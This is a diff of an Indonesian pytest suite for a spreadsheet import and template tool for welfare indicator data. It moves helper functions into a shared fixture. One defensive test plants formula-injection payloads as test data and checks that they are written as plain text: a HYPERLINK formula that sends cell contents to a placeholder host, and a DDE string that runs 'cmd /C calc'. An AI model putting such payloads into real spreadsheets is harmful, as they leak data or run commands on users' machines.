@@ -9,7 +9,6 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
-import importlib.util
 import io
 import os
 import shutil
@@ -31,51 +30,13 @@ AKAR = Path(__file__).resolve().parents[1]
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 perlu_libreoffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) tidak terpasang")
 
-_spec = importlib.util.spec_from_file_location("_uji_xlsx_impor_andal", AKAR / "tests" / "test_xlsx_impor.py")
-_xi = importlib.util.module_from_spec(_spec)
-_spec.loader.exec_module(_xi)
-_isi_penuh, _kolom, _potret = _xi._isi_penuh, _xi._kolom, _xi._potret
 
 
 @pytest.fixture
-def folder(salinan_data, monkeypatch) -> Path:
-    monkeypatch.setenv("IKU_DATA", str(salinan_data))
-    return salinan_data
-
-
-@pytest.fixture
-def terisi(folder, tmp_path) -> Path:
+def terisi(folder, tmp_path, bantu) -> Path:
     jalur = xlsx.buat_templat(2026, keluaran=tmp_path / "isian_2026.xlsx", folder=folder)
-    _isi_penuh(jalur)
+    bantu.isi_penuh(jalur)
     return jalur
-
-
-def _lewat_libreoffice(jalur: Path, kerja: Path) -> Path:
-    """Buka dan simpan ``jalur`` dengan LibreOffice (tanpa makro); kembalikan buku kerja yang ditulisnya."""
-    keluar = kerja / "libreoffice"
-    keluar.mkdir(exist_ok=True)
-    subprocess.run([SOFFICE, "--headless", f"-env:UserInstallation=file://{kerja / 'profil-lo'}", "--convert-to",
-                    "xlsx:Calc MS Excel 2007 XML", "--outdir", str(keluar), str(jalur)],
-                   check=True, capture_output=True, timeout=300)
-    hasil = keluar / jalur.name
-    assert hasil.exists()
-    return hasil
-
-
-def _baris_jenis(ws, jenis: str) -> int:
-    c = _kolom(ws, "Jenis PPKS")
-    return next(r for r in range(xlsx.BARIS_DATA, ws.max_row + 1) if ws.cell(r, c).value == jenis)
-
-
-def _tolak(jalur: Path, folder: Path, *potongan: str, **kw) -> str:
-    sebelum = _potret(folder)
-    with pytest.raises(KesalahanData) as e:
-        impor.impor(jalur, folder=folder, **kw)
-    pesan = str(e.value)
-    for p in potongan:
-        assert p in pesan
-    assert _potret(folder) == sebelum
-    return pesan
 
 
 # ----------------------------------------------------------------------------
@@ -83,23 +44,23 @@ def _tolak(jalur: Path, folder: Path, *potongan: str, **kw) -> str:
 
 
 @perlu_libreoffice
-def test_libreoffice_pulang_pergi_utuh_diterima(folder, terisi, tmp_path):
+def test_libreoffice_pulang_pergi_utuh_diterima(folder, terisi, tmp_path, bantu):
     """Buku kerja yang hanya dibuka dan disimpan LibreOffice tetap diterima (identitas baris ikut tersimpan)."""
-    lo = _lewat_libreoffice(terisi, tmp_path)
+    lo = bantu.lewat_libreoffice(terisi, tmp_path)
     h = impor.rencanakan(lo, folder=folder)
     assert {p.berkas: len(p.ditambah) for p in h.perubahan}["ppks_pas.csv"] == 28
 
 
 @perlu_libreoffice
-def test_baris_dihapus_ditolak_setelah_libreoffice(folder, terisi, tmp_path):
+def test_baris_dihapus_ditolak_setelah_libreoffice(folder, terisi, tmp_path, bantu):
     """Isu 16.1: baris FAKIR MISKIN dihapus → ditolak dengan lembar dan baris, bukan "27 ditambah"."""
     wb = openpyxl.load_workbook(terisi)
     ws = wb["PPKS per PAS"]
-    r = _baris_jenis(ws, "Fakir Miskin")
+    r = bantu.cari_baris(ws, "Jenis PPKS", "Fakir Miskin")
     ws.delete_rows(r)
     wb.save(terisi)
-    lo = _lewat_libreoffice(terisi, tmp_path)
-    pesan = _tolak(lo, folder, f"lembar 'PPKS per PAS', baris {r}", "seharusnya '12 | FAKIR MISKIN | Fakir Miskin",
+    lo = bantu.lewat_libreoffice(terisi, tmp_path)
+    pesan = bantu.tolak(lo, folder, f"lembar 'PPKS per PAS', baris {r}", "seharusnya '12 | FAKIR MISKIN | Fakir Miskin",
                    "baris dihapus, disisipkan, dipindah")
     assert "ditambah" not in pesan
 
@@ -107,14 +68,14 @@ def test_baris_dihapus_ditolak_setelah_libreoffice(folder, terisi, tmp_path):
 @pytest.mark.parametrize("ubah, baris_pesan", [
     ("sisip", "baris 6"), ("pindah", "baris 5"), ("ketik_ulang", "baris 5"), ("tambah_di_bawah", "baris 33"),
 ])
-def test_baris_disisipkan_dipindah_diketik_ulang_ditolak(folder, terisi, ubah, baris_pesan):
+def test_baris_disisipkan_dipindah_diketik_ulang_ditolak(folder, terisi, ubah, baris_pesan, bantu):
     wb = openpyxl.load_workbook(terisi)
     ws = wb["PPKS per PAS"]
-    c_jenis = _kolom(ws, "Jenis PPKS")
+    c_jenis = bantu.kolom(ws, "Jenis PPKS")
     if ubah == "sisip":
         ws.insert_rows(6)
         ws.cell(6, c_jenis).value = "Kategori baru"
-        ws.cell(6, _kolom(ws, "Terdata (jiwa)")).value = 10
+        ws.cell(6, bantu.kolom(ws, "Terdata (jiwa)")).value = 10
     elif ubah == "pindah":
         a, b = ws.cell(5, c_jenis).value, ws.cell(6, c_jenis).value
         ws.cell(5, c_jenis).value, ws.cell(6, c_jenis).value = b, a
@@ -122,16 +83,16 @@ def test_baris_disisipkan_dipindah_diketik_ulang_ditolak(folder, terisi, ubah, b
         ws.cell(5, c_jenis).value = ws.cell(5, c_jenis).value + "x"
     else:
         ws.cell(33, c_jenis).value = "Kategori tambahan"
-        ws.cell(33, _kolom(ws, "Terdata (jiwa)")).value = 5
+        ws.cell(33, bantu.kolom(ws, "Terdata (jiwa)")).value = 5
     wb.save(terisi)
-    _tolak(terisi, folder, f"lembar 'PPKS per PAS', {baris_pesan}")
+    bantu.tolak(terisi, folder, f"lembar 'PPKS per PAS', {baris_pesan}")
 
 
-def test_sel_gabungan_disebut(folder, terisi):
+def test_sel_gabungan_disebut(folder, terisi, bantu):
     wb = openpyxl.load_workbook(terisi)
     wb["PSKS"].merge_cells("F6:G6")
     wb.save(terisi)
-    _tolak(terisi, folder, "lembar 'PSKS', baris 6, kolom 'F6:G6'", "sel digabung (merge)")
+    bantu.tolak(terisi, folder, "lembar 'PSKS', baris 6, kolom 'F6:G6'", "sel digabung (merge)")
 
 
 # ----------------------------------------------------------------------------
@@ -142,22 +103,17 @@ def _templat_triwulan(folder: Path, tmp_path: Path) -> Path:
     return xlsx.buat_templat(2026, "Triwulan I", keluaran=tmp_path / "tw1.xlsx", folder=folder)
 
 
-def _baris_kode(ws, kode: str) -> int:
-    c = _kolom(ws, "Kode")
-    return next(r for r in range(xlsx.BARIS_DATA, ws.max_row + 1) if ws.cell(r, c).value == kode)
-
-
 @perlu_libreoffice
-def test_sel_persen_dibaca_sebagai_persen(folder, tmp_path):
+def test_sel_persen_dibaca_sebagai_persen(folder, tmp_path, bantu):
     """Isu 16.2: "85%" diketik di sel realisasi → 85, bukan 0,85 (IKK-01, satuan %)."""
     t = _templat_triwulan(folder, tmp_path)
     wb = openpyxl.load_workbook(t)
     ws = wb["Realisasi IKU-IKK"]
-    r = _baris_kode(ws, "IKK-01")
-    sel = ws.cell(r, _kolom(ws, "Realisasi"))
+    r = bantu.cari_baris(ws, "Kode", "IKK-01")
+    sel = ws.cell(r, bantu.kolom(ws, "Realisasi"))
     sel.value, sel.number_format = 0.85, "0%"  # yang disimpan Excel/LibreOffice untuk ketikan "85%"
     wb.save(t)
-    lo = _lewat_libreoffice(t, tmp_path)
+    lo = bantu.lewat_libreoffice(t, tmp_path)
     assert "%" in openpyxl.load_workbook(lo)["Realisasi IKU-IKK"].cell(r, sel.column).number_format
     impor.impor(lo, folder=folder)
     real = data.muat("realisasi", folder)
@@ -165,37 +121,37 @@ def test_sel_persen_dibaca_sebagai_persen(folder, tmp_path):
     assert baris["realisasi"].tolist() == [85]
 
 
-def test_sel_tanggal_di_kolom_angka_ditolak(folder, tmp_path):
+def test_sel_tanggal_di_kolom_angka_ditolak(folder, tmp_path, bantu):
     """Isu 16.2: "1/2" yang diubah spreadsheet menjadi tanggal (46054) ditolak."""
     t = _templat_triwulan(folder, tmp_path)
     wb = openpyxl.load_workbook(t)
     ws = wb["PPKS per PAS"]
-    sel = ws.cell(xlsx.BARIS_DATA, _kolom(ws, "Terdata (jiwa)"))
+    sel = ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Terdata (jiwa)"))
     sel.value, sel.number_format = dt.datetime(2026, 1, 2), "d/m/yyyy"
     wb.save(t)
-    _tolak(t, folder, "lembar 'PPKS per PAS', baris 5, kolom 'Terdata (jiwa) [H]'", "sel berformat tanggal/waktu")
+    bantu.tolak(t, folder, "lembar 'PPKS per PAS', baris 5, kolom 'Terdata (jiwa) [H]'", "sel berformat tanggal/waktu")
 
 
-def test_persen_di_atas_100_ditolak(folder, tmp_path):
+def test_persen_di_atas_100_ditolak(folder, tmp_path, bantu):
     t = _templat_triwulan(folder, tmp_path)
     wb = openpyxl.load_workbook(t)
     ws = wb["Realisasi IKU-IKK"]
-    ws.cell(_baris_kode(ws, "IKK-01"), _kolom(ws, "Realisasi")).value = 120
+    ws.cell(bantu.cari_baris(ws, "Kode", "IKK-01"), bantu.kolom(ws, "Realisasi")).value = 120
     wb.save(t)
-    _tolak(t, folder, "lembar 'Realisasi IKU-IKK'", "nilai '120': persentase lebih dari 100")
+    bantu.tolak(t, folder, "lembar 'Realisasi IKU-IKK'", "nilai '120': persentase lebih dari 100")
 
 
-def test_lonjakan_perlu_konfirmasi(folder, tmp_path, capsys):
+def test_lonjakan_perlu_konfirmasi(folder, tmp_path, capsys, bantu):
     """Isu 16.2: "41.000" di lokal Inggris menjadi 41 terhadap 40.241 periode lalu → ditolak, kecuali --terima-lonjakan."""
     t = _templat_triwulan(folder, tmp_path)
     wb = openpyxl.load_workbook(t)
     ws = wb["PPKS per PAS"]
-    r = _baris_jenis(ws, "Fakir Miskin")
-    assert ws.cell(r, _kolom(ws, "Terdata periode lalu")).value == 40241
-    ws.cell(r, _kolom(ws, "Terdata (jiwa)")).value = 41
-    ws.cell(r, _kolom(ws, "Tertangani (jiwa)")).value = 30
+    r = bantu.cari_baris(ws, "Jenis PPKS", "Fakir Miskin")
+    assert ws.cell(r, bantu.kolom(ws, "Terdata periode lalu")).value == 40241
+    ws.cell(r, bantu.kolom(ws, "Terdata (jiwa)")).value = 41
+    ws.cell(r, bantu.kolom(ws, "Tertangani (jiwa)")).value = 30
     wb.save(t)
-    _tolak(t, folder, f"lembar 'PPKS per PAS', baris {r}, kolom 'Terdata (jiwa) [H]', nilai '41'",
+    bantu.tolak(t, folder, f"lembar 'PPKS per PAS', baris {r}, kolom 'Terdata (jiwa) [H]', nilai '41'",
            "lebih dari 10 kali lipat dari nilai Triwulan I 2025 (40.241)", "--terima-lonjakan")
     assert cli.main(["impor", str(t)]) == 2
     assert "--terima-lonjakan" in capsys.readouterr().err
@@ -222,7 +178,7 @@ RUMUS_JAHAT = '=HYPERLINK("http://contoh.invalid/?"&A1,"Data")'
 
 
 @perlu_libreoffice
-def test_teks_berawalan_rumus_ditulis_sebagai_teks(folder, tmp_path):
+def test_teks_berawalan_rumus_ditulis_sebagai_teks(folder, tmp_path, bantu):
     """Isu 16.3: teks dari data/ berawalan =, +, -, @ ditulis sebagai teks; LibreOffice tidak menjalankannya."""
     _ganti_kolom(folder / "indikator.csv", "nama", RUMUS_JAHAT)
     _ganti_kolom(folder / "indikator.csv", "penanggung_jawab", "@SUM(1+1)*cmd|' /C calc'!A0", baris=2)
@@ -231,12 +187,12 @@ def test_teks_berawalan_rumus_ditulis_sebagai_teks(folder, tmp_path):
     rumus = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
     assert rumus == []  # templat tidak memuat satu rumus pun
     ws = wb["Realisasi IKU-IKK"]
-    sel = ws.cell(xlsx.BARIS_DATA, _kolom(ws, "Indikator"))
+    sel = ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Indikator"))
     assert (sel.value, sel.data_type, sel.quotePrefix) == (RUMUS_JAHAT, "s", True)
-    lo = _lewat_libreoffice(t, tmp_path)
+    lo = bantu.lewat_libreoffice(t, tmp_path)
     for data_only in (False, True):
         ws = openpyxl.load_workbook(lo, data_only=data_only)["Realisasi IKU-IKK"]
-        assert ws.cell(xlsx.BARIS_DATA, _kolom(ws, "Indikator")).value == RUMUS_JAHAT
+        assert ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Indikator")).value == RUMUS_JAHAT
     wb = openpyxl.load_workbook(lo)
     assert [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
 
@@ -262,17 +218,17 @@ def test_templat_tidak_menimpa_tanpa_timpa(folder, tmp_path, capsys):
     ("data/ppks_pas.csv", "hanya ditulis ke berkas berakhiran .xlsx"),
     ("folder.xlsx/", "jalur itu sebuah folder"),
 ])
-def test_templat_keluaran_salah_ditolak(folder, tmp_path, capsys, tujuan, pesan):
+def test_templat_keluaran_salah_ditolak(folder, tmp_path, capsys, tujuan, pesan, bantu):
     if tujuan.startswith("data/"):
         jalur = folder / "ppks_pas.csv"
     else:
         jalur = tmp_path / "folder.xlsx"
         jalur.mkdir()
-    sebelum = _potret(folder)
+    sebelum = bantu.potret(folder)
     assert cli.main(["templat", "--tahun", "2026", "--keluaran", str(jalur), "--timpa"]) == 2
     err = capsys.readouterr().err
     assert pesan in err and "Traceback" not in err and len(err.splitlines()) == 1
-    assert _potret(folder) == sebelum
+    assert bantu.potret(folder) == sebelum
 
 
 # ----------------------------------------------------------------------------
@@ -285,26 +241,26 @@ def _env(folder: Path, **tambahan) -> dict:
     return env
 
 
-def _isi_triwulan(folder: Path, tmp_path: Path) -> Path:
+def _isi_triwulan(bantu, folder: Path, tmp_path: Path) -> Path:
     """Templat Triwulan II 2026 yang mengubah tiga berkas (ppks_pas, realisasi, sakip)."""
     t = xlsx.buat_templat(2026, "Triwulan II", keluaran=tmp_path / "tw2.xlsx", folder=folder)
     wb = openpyxl.load_workbook(t)
     ws = wb["PPKS per PAS"]
     for r in range(xlsx.BARIS_DATA, ws.max_row + 1):
         for j_lalu, j in (("Terdata periode lalu", "Terdata (jiwa)"), ("Tertangani periode lalu", "Tertangani (jiwa)")):
-            ws.cell(r, _kolom(ws, j)).value = ws.cell(r, _kolom(ws, j_lalu)).value
+            ws.cell(r, bantu.kolom(ws, j)).value = ws.cell(r, bantu.kolom(ws, j_lalu)).value
     ws = wb["Realisasi IKU-IKK"]
-    ws.cell(_baris_kode(ws, "IKK-01"), _kolom(ws, "Realisasi")).value = 50
+    ws.cell(bantu.cari_baris(ws, "Kode", "IKK-01"), bantu.kolom(ws, "Realisasi")).value = 50
     ws = wb["SAKIP"]
-    ws.cell(xlsx.BARIS_DATA, _kolom(ws, "Nilai SAKIP")).value = 61
+    ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Nilai SAKIP")).value = 61
     wb.save(t)
     return t
 
 
-def test_disk_penuh_saat_impor(folder, tmp_path):
+def test_disk_penuh_saat_impor(folder, tmp_path, bantu):
     """Isu 16.7: disk penuh saat menulis impor → satu pesan, data/ utuh, tidak ada .tmp 0 bita tertinggal."""
-    t = _isi_triwulan(folder, tmp_path)
-    sebelum = _potret(folder)
+    t = _isi_triwulan(bantu, folder, tmp_path)
+    sebelum = bantu.potret(folder)
     skrip = (
         "import errno, sys\n"
         "from analisis.input import impor\n"
@@ -319,20 +275,20 @@ def test_disk_penuh_saat_impor(folder, tmp_path):
     assert p.returncode == 2, p.stderr
     assert "ruang disk penuh" in p.stderr and "tidak ada berkas data yang diubah" in p.stderr
     assert "Traceback" not in p.stderr
-    assert _potret(folder) == sebelum
+    assert bantu.potret(folder) == sebelum
     assert [x.name for x in folder.iterdir() if x.name.startswith(".")] == []
 
 
-def test_impor_dibunuh_di_antara_penggantian_diselesaikan(folder, tmp_path):
+def test_impor_dibunuh_di_antara_penggantian_diselesaikan(folder, tmp_path, bantu):
     """Isu 16.10: impor dibunuh (SIGKILL) setelah berkas pertama diganti → perintah iku berikutnya menyelesaikannya."""
-    t = _isi_triwulan(folder, tmp_path)
-    sebelum = _potret(folder)
+    t = _isi_triwulan(bantu, folder, tmp_path)
+    sebelum = bantu.potret(folder)
     proses = subprocess.Popen([sys.executable, "-m", "analisis.cli", "impor", str(t)],
                               env=_env(folder, IKU_UJI_JEDA_IMPOR="120"), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
     try:
         batas = time.monotonic() + 240
         while time.monotonic() < batas:
-            berubah = [n for n, b in _potret(folder).items() if not n.startswith(".") and sebelum.get(n) != b]
+            berubah = [n for n, b in bantu.potret(folder).items() if not n.startswith(".") and sebelum.get(n) != b]
             if berubah:
                 break
             assert proses.poll() is None, proses.communicate()
@@ -350,18 +306,18 @@ def test_impor_dibunuh_di_antara_penggantian_diselesaikan(folder, tmp_path):
     assert p.returncode == 0, p.stderr
     assert "Impor yang terputus diselesaikan dari jurnal" in p.stderr
     assert "Tidak ada perubahan" in p.stdout  # seluruh isian sudah ada di data/
-    sesudah = _potret(folder)
+    sesudah = bantu.potret(folder)
     assert sorted(n for n in sesudah if sebelum.get(n) != sesudah[n]) == ["ppks_pas.csv", "realisasi.csv", "sakip.csv"]
     assert [x.name for x in folder.iterdir() if x.name.startswith(".")] == []
     assert data.periksa_semua(folder) == []
 
 
-def test_sisa_impor_tanpa_jurnal_dibuang(folder):
+def test_sisa_impor_tanpa_jurnal_dibuang(folder, bantu):
     """Impor yang mati sebelum jurnal ditulis: panggung dan .tmp dihapus, data/ tidak berubah."""
-    sebelum = _potret(folder)
+    sebelum = bantu.potret(folder)
     (folder / impor.PANGGUNG).mkdir()
     (folder / impor.PANGGUNG / "ppks_pas.csv").write_text("setengah", encoding="utf-8")
     (folder / ".ppks_pas.csv.abc123.tmp").write_bytes(b"")
     pesan = impor.pulihkan(folder)
     assert any("dibatalkan" in p for p in pesan) and any(".ppks_pas.csv.abc123.tmp" in p for p in pesan)
-    assert _potret(folder) == sebelum
+    assert bantu.potret(folder) == sebelum
